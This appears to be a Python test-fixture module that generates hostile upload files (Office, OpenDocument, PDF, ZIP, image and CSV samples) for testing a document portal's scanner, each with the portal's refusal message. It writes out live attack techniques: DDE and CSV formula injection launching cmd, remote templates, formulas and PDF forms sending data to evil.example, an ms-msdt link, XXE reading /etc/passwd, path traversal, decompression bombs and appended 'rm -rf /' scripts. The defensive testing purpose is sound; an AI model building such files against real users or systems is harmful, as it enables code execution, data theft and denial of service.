"""Files made to do harm, each by its own few lines: nothing hostile lies in the repository.

Every entry says what it is called, why it is hostile, and with which words the portal refuses it.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from openpyxl import Workbook

from tests.build import documents as ordinary


@dataclass(frozen=True)
class Hostile:
    file_name: str
    why: str
    code: str
    says: str
    make: Callable[[], bytes]
    #: Further checks that refuse it too; “stumbles” where a reader led on past its check breaks on its own.
    also: frozenset[str] = frozenset()

    def __str__(self):
        return f"{self.code}: {self.why}"


CORPUS: list[Hostile] = []


def hostile(file_name: str, why: str, code: str, says: str, also: str = ""):
    def keep(make):
        CORPUS.append(Hostile(file_name, why, code, says, make, frozenset(also.split())))
        return make

    return keep


def _pdf(change=None, **save) -> bytes:
    pdf = pikepdf.open(io.BytesIO(ordinary.pdf()))
    if change:
        change(pdf)
    out = io.BytesIO()
    pdf.save(out, **save)
    return out.getvalue()


def _with_part(data: bytes, name: str, content: bytes | str, *, compress=zipfile.ZIP_DEFLATED) -> bytes:
    """The same archive and one part more."""
    return _rewritten(data, add=[(name, content)], compress=compress)


def _rewritten(data: bytes, *, add=(), replace=None, compress=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", compress) as new:
        for info in old.infolist():
            content = old.read(info)
            if replace and info.filename in replace:
                content = replace[info.filename](content.decode()).encode()
            new.writestr(info, content)
        for name, content in add:
            new.writestr(name, content)
    return out.getvalue()


def _relationship(role: str, target: str, *, external: bool = True, to: str = "word/_rels/document.xml.rels") -> bytes:
    """A Word document with one relationship more."""
    kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{role}"
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="rIdX" Type="{kind}" Target="{target}"{mode}/>'
    return _rewritten(
        ordinary.docx(), replace={to: lambda text: text.replace("</Relationships>", f"{rel}</Relationships>")}
    )


def _patched(data: bytes, signature: bytes, offset: int, new: bytes, *, which: int = 0) -> bytes:
    """Bytes written over the n-th header with this signature."""
    at = -1
    for _ in range(which + 1):
        at = data.index(signature, at + 1)
    return data[: at + offset] + new + data[at + offset + len(new) :]


LOCAL, ENTRY = b"PK\x03\x04", b"PK\x01\x02"


# --- names, kinds and sizes ------------------------------------------------------------------------------------------
hostile(
    "minutes\u202efdp.docx",
    "its name is turned around to hide its ending",
    "name-turns",
    "The name of this file has hidden characters",
)(lambda: ordinary.docx())
hostile(
    "minutes\x07.docx",
    "its name rings a bell",
    "name-controls",
    "The name of this file has characters in it that cannot be seen",
)(lambda: ordinary.docx())
hostile(
    "m" * 240 + ".pdf",
    "its name is too long for many disks",
    "name-too-long",
    "The name of this file is longer than 200 characters",
)(lambda: ordinary.pdf())
hostile("CON.pdf", "its name is a device of Windows", "name-reserved", "Windows keeps the name “CON” for itself")(
    lambda: ordinary.pdf()
)
hostile(
    "../../etc/cron.d/minutes.pdf",
    "its name leads to another folder",
    "name-path",
    "The name of this file has a folder in it",
)(lambda: ordinary.pdf())
hostile(
    "invoice.exe.pdf",
    "its name has two endings, one of a program",
    "name-double",
    "The name of this file has two endings, and “.exe”",
)(lambda: ordinary.pdf())
hostile("minutes", "its name has no ending", "kind-missing", "The name of this file has no ending")(
    lambda: ordinary.pdf()
)
hostile(
    "minutes.doc",
    "the old Word format, which nobody can check to its last part",
    "kind-not-taken",
    "This is a Word file of the format before 2007, which the portal does not take. Open it, choose “Save as”",
)(lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))
hostile("figures.xlsm", "a workbook with macros, openly", "kind-not-taken", "This is an Excel workbook with macros")(
    lambda: ordinary.xlsx()
)
hostile("setup.exe", "a program", "kind-not-taken", "This is a program or script")(lambda: b"MZ" + bytes(600))
hostile("chart.svg", "a drawing with a script in it", "kind-not-taken", "This is a drawing that can hold programs")(
    lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)
hostile("page.html", "a web page with a script in it", "kind-not-taken", "This is a web page")(
    lambda: b"<!doctype html><script>alert(1)</script>"
)
hostile("papers.zip", "an archive", "kind-not-taken", "This is an archive of other files")(lambda: ordinary.docx())
hostile("model.xyz", "a kind nobody knows", "kind-unknown", "The portal does not take .xyz files")(lambda: b"xyz" * 99)
hostile("empty.pdf", "nothing in it", "empty", "This file is empty")(lambda: b"")
hostile("huge.txt", "larger than any document", "too-large", "This file has 30.0\xa0MB; the most is 25.0\xa0MB")(
    lambda: b"a line of text\n" * (2 * 1024 * 1024)
)
hostile(
    "minutes.pdf",
    "a program called PDF",
    "looks-like-another",
    "This file is called .pdf, but inside it is a Windows program",
    also="pdf-cut-short damaged",
)(lambda: b"MZ" + bytes(600))
hostile(
    "minutes.docx",
    "locked with a password, so nobody can look inside",
    "locked-office",
    "This file is locked with a password, or it is of the Office format before 2007",
    also="looks-like-another damaged",
)(lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))
hostile(
    "photo.jpg",
    "a PNG called JPEG",
    "looks-like-another",
    "This file is called .jpg, but inside it is a PNG",
    also="damaged",
)(lambda: ordinary.png())
hostile(
    "notes.txt",
    "a PDF called text",
    "looks-like-another",
    "This file is called .txt, but inside it is a PDF",
    also="text-binary stumbles",
)(lambda: ordinary.pdf())


# --- Office: macros, controls, things embedded, things fetched -------------------------------------------------------
@hostile(
    "minutes.docx",
    "macros in a document that says it has none",
    "macros",
    "This document has macros, which are small programs. Save it as .docx without macros and upload it again.",
)
def _():
    return _with_part(ordinary.docx(), "word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99))


@hostile("figures.xlsx", "declared as a workbook with macros", "macros", "This workbook has macros", also="no-kind")
def _():
    return _rewritten(
        ordinary.xlsx(),
        replace={
            "[Content_Types].xml": lambda text: text.replace(
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            )
        },
    )


@hostile("figures.xlsx", "a macro sheet of Excel 4", "excel4-macros", "This workbook has macro sheets")
def _():
    return _with_part(ordinary.xlsx(), "xl/macrosheets/sheet1.xml", "<xm:macrosheet xmlns:xm='x'/>")


@hostile("form.docx", "a button that runs a program", "controls", "This document has buttons or boxes in it")
def _():
    return _with_part(ordinary.docx(), "word/activeX/activeX1.xml", "<ax:ocx xmlns:ax='x'/>")


@hostile("minutes.docx", "an OLE object", "embedded", "This document has another file inside it", also="part-nested")
def _():
    return _with_part(
        ordinary.docx(), "word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99)
    )


@hostile(
    "board.pptx",
    "the workbook behind a chart, unchecked",
    "embedded",
    "This presentation has another file inside it, such as the worksheet behind a chart",
    also="part-nested",
)
def _():
    return _with_part(ordinary.pptx(), "ppt/embeddings/Microsoft_Excel_Sheet1.xlsx", ordinary.xlsx())


@hostile(
    "minutes.docx",
    "a page in another format, put in when it is opened",
    "embedded",
    "This document has another file inside it",
)
def _():
    return _relationship("aFChunk", "afchunk.mht", external=False)


@hostile(
    "minutes.docx",
    "its template is fetched from elsewhere, with its macros",
    "outside-template",
    "This document takes its template from another place (https://evil.example/t.dotm)",
)
def _():
    return _with_part(
        ordinary.docx(),
        "word/_rels/settings.xml.rels",
        (
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" TargetMode="External" Target="https://evil.example/t.dotm" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
        ),
    )


@hostile(
    "minutes.docx",
    "a picture fetched from elsewhere tells who reads it",
    "outside-content",
    "This document takes some of its content from another place",
)
def _():
    return _relationship("image", "file://///evil.example/share/p.png")


@hostile("minutes.docx", "a link that starts a program", "link-runs", "This document has a link that would start")
def _():
    return _relationship("hyperlink", "ms-msdt:/id%20PCWDiagnostic")


@hostile(
    "minutes.docx",
    "a field that starts a program, cut into letters",
    "starts-program",
    "This document has a field or formula that can start another program",
)
def _():
    runs = "".join(f"<w:r><w:instrText>{letters}</w:instrText></w:r>" for letters in (" D", "DE", "AUTO c:\\\\cmd.exe"))
    return _rewritten(
        ordinary.docx(),
        replace={"word/document.xml": lambda text: text.replace("<w:sectPr", f"<w:p>{runs}</w:p><w:sectPr", 1)},
    )


@hostile(
    "figures.xlsx",
    "values from a workbook elsewhere",
    "outside-workbook",
    "This workbook takes values from another workbook (budget.xlsx)",
)
def _():
    return _with_part(
        ordinary.xlsx(),
        "xl/externalLinks/_rels/externalLink1.xml.rels",
        (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
            r'Target="file:///\\server\share\budget.xlsx" TargetMode="External"/></Relationships>'
        ),
    )


@hostile("figures.xlsx", "a link that starts a program", "starts-program", "This workbook has a field or formula")
def _():
    return _with_part(
        ordinary.xlsx(),
        "xl/externalLinks/externalLink1.xml",
        (
            '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
        ),
    )


@hostile("figures.xlsx", "data fetched when it is opened", "outside-data", "This workbook fetches data from elsewhere")
def _():
    return _with_part(ordinary.xlsx(), "xl/connections.xml", '<connections xmlns="x"/>')


@hostile(
    "figures.xlsx",
    "a formula that sends a cell to another place",
    "outside-data",
    "This workbook fetches data from elsewhere",
)
def _():
    book = Workbook()
    book.active["A1"] = '=_xlfn.WEBSERVICE("https://evil.example/?"&A2)'
    return ordinary.saved(book)


@hostile(
    "figures.xlsx",
    "two cells a million rows apart fill the memory of the reader",
    "too-much-to-read",
    "This file takes far more memory or time to read",
)
def _():
    book = Workbook()
    book.active["A1"] = book.active["XFD1048576"] = 1
    return ordinary.saved(book)


@hostile(
    "minutes.docx",
    "a workbook called document",
    "another-kind",
    "This file is called .docx, but inside it is an Excel workbook",
)
def _():
    return ordinary.xlsx()


@hostile(
    "minutes.docx",
    "a Java program called document",
    "no-kind",
    "This file is called .docx, but inside there is no Word document",
    also="damaged stumbles",
)
def _():
    return ordinary.zipped([("META-INF/MANIFEST.MF", b"Main-Class: Evil\n"), ("Evil.class", b"class")])


@hostile(
    "template.docx",
    "a template called document",
    "another-kind",
    "This file is called .docx, but inside it is a Word template",
)
def _():
    return _rewritten(
        ordinary.docx(),
        replace={
            "[Content_Types].xml": lambda text: text.replace(
                "wordprocessingml.document.main", "wordprocessingml.template.main"
            )
        },
    )


# --- archives that lie -----------------------------------------------------------------------------------------------
@hostile("minutes.docx", "a program among its parts", "part-program", "There is a program inside this file")
def _():
    return _with_part(ordinary.docx(), "word/media/image2.png", b"MZ" + bytes(500))


@hostile("minutes.docx", "an archive among its parts", "part-nested", "There is another file packed inside this one")
def _():
    return _with_part(ordinary.docx(), "word/media/image2.png", ordinary.xlsx())


@hostile(
    "minutes.docx",
    "parts that need a password",
    "part-locked",
    "This file is locked with a password",
    also="two-faces damaged",
)
def _():
    data = ordinary.docx()
    data = _patched(data, LOCAL, 6, struct.pack("<H", 1))
    return _patched(data, ENTRY, 8, struct.pack("<H", 1))


@hostile("minutes.docx", "a part that is a link to a file of ours", "part-link", "A part of this file is a link")
def _():
    link = zipfile.ZipInfo("word/media/image2.png")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    return _with_part(ordinary.docx(), link, b"/etc/passwd")


@hostile("minutes.docx", "a part whose name climbs out of its folder", "part-way-out", "A part of this file has a name")
def _():
    return _with_part(ordinary.docx(), "../../evil.txt", b"out")


@hostile("minutes.docx", "a part whose name begins at the root", "part-way-out", "A part of this file has a name")
def _():
    return _with_part(ordinary.docx(), "/etc/evil.txt", b"out")


@hostile("minutes.docx", "a part whose name begins with a drive", "part-way-out", "A part of this file has a name")
def _():
    return _with_part(ordinary.docx(), "C:\\evil.txt", b"out")


@hostile("minutes.docx", "thousands of parts", "too-many-parts", "This file has more than 2,000 parts inside")
def _():
    return _rewritten(ordinary.docx(), add=[(f"word/media/{number}.txt", b"") for number in range(2_100)])


@hostile(
    "minutes.docx",
    "a part that unpacks to a thousand times its size",
    "packed-too-tight",
    "Part of this file unpacks to more than 50 times its size",
)
def _():
    return _with_part(ordinary.docx(), "word/media/image1.bmp", bytes(30 * 1024 * 1024))


@hostile(
    "minutes.docx", "many small bombs instead of one", "too-large-unpacked", "Unpacked, this file is larger than 50 MB"
)
def _():
    return _rewritten(ordinary.docx(), add=[(f"word/media/{n}.bmp", bytes(1_000_000)) for n in range(60)])


@hostile("minutes.docx", "a part larger than it says", "size-untrue", "Part of this file unpacks to another size")
def _():
    data = _with_part(ordinary.docx(), "word/media/image1.bmp", b"\x01\x02" * 400_000)
    entries = data.count(ENTRY)
    data = _patched(data, ENTRY, 24, struct.pack("<L", 1_000), which=entries - 1)
    return _patched(data, LOCAL, 22, struct.pack("<L", 1_000), which=entries - 1)


@hostile(
    "minutes.docx",
    "parts that share their bytes, so that it unpacks to far more",
    "two-faces",
    "The parts of this file are described in two ways",
    also="damaged hidden-data size-untrue",
)
def _():
    data = ordinary.docx()
    second = data.index(ENTRY, data.index(ENTRY) + 1)
    (first_at,) = struct.unpack_from("<L", data, data.index(ENTRY) + 42)
    return data[: second + 42] + struct.pack("<L", first_at) + data[second + 46 :]


@hostile(
    "minutes.docx",
    "one name for the scanner, another for Word",
    "two-faces",
    "The parts of this file are described in two ways",
)
def _():
    data = ordinary.docx()
    return _patched(data, LOCAL, 30, b"[Content_Types].xmm")


@hostile("minutes.docx", "two parts of one name", "part-twice", "Two parts of this file have the same name")
def _():
    return _with_part(ordinary.docx(), "WORD/document.xml", "<evil/>")


@hostile(
    "minutes.docx",
    "a second archive in front",
    "before-the-start",
    "There is something in front of the document",
    also="hidden-data damaged two-faces part-way-out part-method part-locked part-twice stumbles",
)
def _():
    return ordinary.zipped([("evil.txt", b"x" * 300)]) + ordinary.docx()


@hostile(
    "minutes.docx", "a web page behind its end", "after-the-end", "There is something behind the end", also="damaged"
)
def _():
    return ordinary.docx() + b"<html><script>alert(1)</script></html>"


@hostile("minutes.docx", "a program in its comment", "after-the-end", "There is something behind the end")
def _():
    data = ordinary.docx()
    note = b"#!/bin/sh\nrm -rf /\n"
    return data[:-2] + struct.pack("<H", len(note)) + note


@hostile(
    "minutes.docx",
    "bytes between two parts that no directory names",
    "hidden-data",
    "There is something hidden between the parts",
)
def _():
    data = ordinary.docx()
    first, end = data.index(ENTRY), data.index(b"PK\x05\x06")
    hidden = b"hidden" * 100
    moved = data[:first] + hidden + data[first:end]
    tail = data[end:]
    return moved + tail[:16] + struct.pack("<L", first + len(hidden)) + tail[20:]


@hostile(
    "minutes.docx",
    "packed by a method that documents do not use",
    "part-method",
    "Part of this file is packed in a way",
    also="damaged stumbles",
)
def _():
    return _with_part(ordinary.docx(), "word/media/image1.bmp", bytes(900), compress=zipfile.ZIP_LZMA)


@hostile(
    "minutes.docx",
    "cut short on its way",
    "damaged",
    "This file is damaged and cannot be read to its end",
    also="after-the-end too-many-parts hidden-data no-kind stumbles",
)
def _():
    return ordinary.docx()[:-40]


@hostile("minutes.docx", "a part whose checksum is untrue", "damaged", "This file is damaged")
def _():
    data = ordinary.docx()
    data = _patched(data, ENTRY, 16, b"\0\0\0\0")
    return _patched(data, LOCAL, 14, b"\0\0\0\0")


# --- XML -------------------------------------------------------------------------------------------------------------
@hostile(
    "minutes.docx",
    "an abbreviation of abbreviations: a billion laughs",
    "xml-doctype",
    "Part of this file (word/theme.xml) defines its own abbreviations",
    also="damaged",
)
def _():
    lines = ['<!DOCTYPE lolz [<!ENTITY a "lol">'] + [
        f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefgh", "bcdefghi", strict=True)
    ]
    return _with_part(ordinary.docx(), "word/theme.xml", "<?xml version='1.0'?>" + "".join(lines) + "]><l>&i;</l>")


@hostile(
    "minutes.docx",
    "an abbreviation that reads a file of ours",
    "xml-doctype",
    "Part of this file (word/theme.xml) defines its own abbreviations",
)
def _():
    return _with_part(
        ordinary.docx(), "word/theme.xml", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    )


@hostile(
    "minutes.docx", "elements nested without end", "xml-deep", "Part of this file (word/theme.xml) is nested far deeper"
)
def _():
    return _with_part(ordinary.docx(), "word/theme.xml", "<a>" * 5_000 + "</a>" * 5_000)


@hostile("minutes.docx", "a part that is not XML to its end", "damaged", "This file is damaged")
def _():
    return _with_part(ordinary.docx(), "word/theme.xml", "<a><b></a>")


# --- OpenDocument ----------------------------------------------------------------------------------------------------
@hostile("figures.ods", "macros", "macros", "This workbook has macros, which are small programs. Save it as .ods")
def _():
    return ordinary.opendocument("ods", add=[("Basic/Standard/Module1.xml", "<a/>")])


@hostile("minutes.odt", "locked with a password", "part-locked", "This file is locked with a password")
def _():
    return ordinary.opendocument("odt", manifest="<manifest:encryption-data/>")


@hostile(
    "minutes.odt",
    "a picture fetched from elsewhere",
    "outside-content",
    "This document takes some of its content from another place",
)
def _():
    return ordinary.opendocument("odt", body='<draw:image xlink:href="https://evil.example/p.png"/>')


@hostile("minutes.odt", "an object of another program", "embedded", "This document has another file inside it")
def _():
    return ordinary.opendocument("odt", add=[("Object 1", b"anything")])


@hostile("minutes.odt", "a script that runs when it is opened", "macros", "This document has macros")
def _():
    return ordinary.opendocument(
        "odt",
        body="<script:event-listener xmlns:script="
        '"urn:oasis:names:tc:opendocument:xmlns:script:1.0" script:event-name="load"/>',
    )


@hostile("figures.ods", "values fetched from another program", "starts-program", "This workbook has a field or formula")
def _():
    return ordinary.opendocument("ods", body='<office:dde-source office:dde-application="cmd"/>')


@hostile(
    "minutes.odt",
    "a spreadsheet called text",
    "another-kind",
    "This file is called .odt, but inside it is an OpenDocument spreadsheet",
)
def _():
    return ordinary.opendocument("ods")


# --- PDF -------------------------------------------------------------------------------------------------------------
@hostile("minutes.pdf", "locked with a password", "pdf-locked", "This PDF is locked", also="stumbles")
def _():
    return _pdf(encryption=pikepdf.Encryption(owner="o", user="u"))


@hostile("minutes.pdf", "may not be printed or copied", "pdf-locked", "This PDF is locked")
def _():
    return _pdf(encryption=pikepdf.Encryption(owner="o", user=""))


def _script(pdf):
    return pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))


@hostile("minutes.pdf", "a program that runs when it is opened", "pdf-javascript", "This PDF has a program in it")
def _():
    return _pdf(lambda pdf: pdf.Root.update({"/OpenAction": _script(pdf)}))


@hostile(
    "minutes.pdf", "a program among its names, where no page shows it", "pdf-javascript", "This PDF has a program in it"
)
def _():
    def change(pdf):
        pdf.Root.Names = pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), _script(pdf)]))
        )

    return _pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


@hostile("minutes.pdf", "starts another program", "pdf-launch", "This PDF starts another program")
def _():
    return _pdf(
        lambda pdf: pdf.Root.update(
            {"/OpenAction": pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))}
        )
    )


@hostile(
    "minutes.pdf",
    "opens a file on another machine, which hears who reads",
    "pdf-launch",
    "This PDF starts another program or opens another file",
)
def _():
    return _pdf(
        lambda pdf: pdf.Root.update(
            {"/OpenAction": pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil.example\\x"), D=[0])}
        )
    )


@hostile("minutes.pdf", "another file attached to it", "pdf-attachments", "This PDF has other files attached to it")
def _():
    return _pdf(lambda pdf: pdf.attachments.__setitem__("evil.exe", b"MZ" + bytes(99)))


@hostile("form.pdf", "a form of Adobe's own kind", "pdf-xfa", "This PDF is a form that only Adobe")
def _():
    return _pdf(
        lambda pdf: pdf.Root.update({"/AcroForm": pikepdf.Dictionary(XFA=pikepdf.Stream(pdf, b"<xdp/>"), Fields=[])})
    )


@hostile("form.pdf", "sends what is filled in to another place", "pdf-sends", "This PDF sends what is filled in")
def _():
    return _pdf(
        lambda pdf: pdf.pages[0].obj.update(
            {
                "/AA": pikepdf.Dictionary(
                    O=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example"))
                )
            }
        )
    )


@hostile("minutes.pdf", "a film in it", "pdf-media", "This PDF has film, sound")
def _():
    return _pdf(
        lambda pdf: pdf.pages[0].obj.update(
            {
                "/Annots": pikepdf.Array(
                    [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 1, 1])]
                )
            }
        )
    )


@hostile("minutes.pdf", "a link that starts a script", "link-runs", "This PDF has a link that would start a program")
def _():
    return _pdf(
        lambda pdf: pdf.Root.update(
            {"/OpenAction": pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:alert(1)"))}
        )
    )


@hostile("minutes.pdf", "a stream that unpacks to a gigabyte", "packed-too-tight", "Part of this file unpacks")
def _():
    packer, packed = zlib.compressobj(9), []
    for _ in range(200):
        packed.append(packer.compress(bytes(1024 * 1024)))
    packed.append(packer.flush())

    def change(pdf):
        stream = pikepdf.Stream(pdf, b"")
        stream.write(b"".join(packed), filter=pikepdf.Name.FlateDecode)
        pdf.Root.Evil = stream

    return _pdf(change, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


@hostile("minutes.pdf", "packed twice, to be out of sight of scanners", "packed-too-tight", "Part of this file unpacks")
def _():
    def change(pdf):
        stream = pikepdf.Stream(pdf, b"")
        stream.write(zlib.compress(zlib.compress(b"evil" * 99)), filter=[pikepdf.Name.FlateDecode] * 2)
        pdf.Root.Evil = stream

    return _pdf(change, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


@hostile("minutes.pdf", "a PDF and an archive at once", "two-files-in-one", "This file is a PDF and an archive at once")
def _():
    return ordinary.pdf() + ordinary.zipped([("Evil.class", b"class" * 50)])


@hostile("minutes.pdf", "a program behind its end", "after-the-end", "There is something behind the end")
def _():
    return ordinary.pdf() + b"#!/bin/sh\n" + b"rm -rf /\n" * 9


@hostile(
    "minutes.pdf",
    "cut short on its way",
    "pdf-cut-short",
    "This PDF ends before it should",
    also="damaged after-the-end",
)
def _():
    return ordinary.pdf()[:600]


@hostile("minutes.pdf", "no pages", "pdf-no-pages", "This PDF has no pages")
def _():
    out = io.BytesIO()
    pikepdf.new().save(out)
    return out.getvalue()


@hostile("minutes.pdf", "nothing behind its first line", "damaged", "This file is damaged", also="stumbles")
def _():
    return b"%PDF-1.7\n" + b"nonsense " * 200 + b"\n%%EOF\n"


# --- pictures --------------------------------------------------------------------------------------------------------
def _png_chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">L", len(content)) + name + content + struct.pack(">L", zlib.crc32(content, zlib.crc32(name)))


@hostile(
    "scan.png",
    "a few bytes that unpack to a picture of ten gigabytes",
    "picture-too-big",
    "This picture has 2500 million points; the most is 60 million",
    also="damaged too-much-to-read",
)
def _():
    header = struct.pack(">2L5B", 50_000, 50_000, 8, 2, 0, 0, 0)
    points = zlib.compress(bytes(100_000))
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", points) + _png_chunk(b"IEND", b"")


@hostile(
    "scan.jpg",
    "a header that promises four thousand million points",
    "picture-too-big",
    "This picture has 42",
    also="damaged too-much-to-read",
)
def _():
    data = bytearray(ordinary.jpg())
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">2H", 65_000, 65_000)
    return bytes(data)


@hostile(
    "photo.jpg",
    "a picture and a Java archive at once",
    "two-files-in-one",
    "This file is a JPEG picture and an archive at once",
)
def _():
    return ordinary.jpg() + ordinary.zipped([("Evil.class", b"class" * 50)])


@hostile(
    "photo.jpg",
    "a picture with a web page behind it",
    "two-files-in-one",
    "This file is a JPEG picture and a web page at once",
)
def _():
    return ordinary.jpg() + b"<html><script>alert(1)</script>"


@hostile("photo.png", "a picture with something behind its end", "after-the-end", "There is something behind the end")
def _():
    return ordinary.png() + b"something else altogether"


@hostile("photo.png", "a picture whose checksums are untrue", "damaged", "This file is damaged")
def _():
    data = bytearray(ordinary.png())
    data[45] ^= 0xFF
    return bytes(data)


@hostile("photo.jpg", "a picture cut in half", "damaged", "This file is damaged")
def _():
    data = ordinary.jpg()
    return data[: len(data) // 3]


# --- text ------------------------------------------------------------------------------------------------------------
hostile("cases.csv", "not text at all", "text-binary", "This file is called .csv, but it is not text", also="stumbles")(
    lambda: b"name,age\n" + bytes(range(256))
)
hostile(
    "notes.txt",
    "in no encoding that a person uses",
    "text-binary",
    "This file is called .txt, but it is not text",
    also="stumbles",
)(lambda: b"\x81\x8d\x8f\x90\x9d" * 40)
hostile(
    "notes.txt", "one line of a megabyte", "text-long-line", "Line 2 of this file has more than 100,000 characters"
)(lambda: b"first\n" + b"x" * 1_000_000)
hostile(
    "cases.csv",
    "a cell that starts a program when Excel opens it",
    "csv-formula",
    "Line 2 of this table has a formula in it (“=cmd|'/c calc'!A1”)",
)(lambda: b"name,age\n=cmd|'/c calc'!A1,3\n")
hostile(
    "cases.csv", "a cell that sends its neighbours away", "csv-formula", "Line 3 of this table has a formula in it"
)(lambda: b'name,age\nA,1\n"@SUM(1+1)*HYPERLINK(""https://evil.example/?""&A1)",3\n')
hostile("cases.csv", "a hundred thousand columns", "csv-too-wide", "Line 2 of this table has more than 16,384 columns")(
    lambda: b"a\n" + b"," * 50_000
)
hostile(
    "cases.csv",
    "read by Excel as a SYLK sheet, with its formulas",
    "looks-like-another",
    "This file is called .csv, but inside it is a SYLK sheet",
)(lambda: b"ID;PWXL;N;E\nC;X1;Y1;K1\nE\n")
hostile(
    "notes.txt", "a web page called text", "looks-like-another", "This file is called .txt, but inside it is a web page"
)(lambda: b"\n <!DOCTYPE html><script>alert(1)</script>")
